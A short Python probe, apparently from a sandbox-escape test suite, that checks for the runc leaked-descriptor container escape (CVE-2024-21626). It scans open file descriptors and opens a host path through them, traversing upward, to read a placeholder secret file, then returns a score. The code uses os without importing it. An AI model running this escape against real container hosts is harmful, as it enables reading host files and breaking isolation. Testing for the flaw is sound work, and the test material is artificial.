"""Leave through a descriptor that the starter forgot to close (CVE-2024-21626).

See: https://github.com/opencontainers/runc/security/advisories/GHSA-xr7r-f8xq-vfvv
Layers: main bare
"""


def attempt():
    found = 0
    for descriptor in range(1024):
        try:
            kind = os.fstat(descriptor).st_mode & 0o170000
        except OSError:
            continue
        found += kind != 0o010000  # the channel is two pipes or FIFOs
        try:
            with open(os.open("../../../../../..@SECRET_FILE@", os.O_RDONLY, dir_fd=descriptor)) as file:
                return float(file.read() == "@SECRET@")
        except OSError:
            pass
    return float(found > 0)
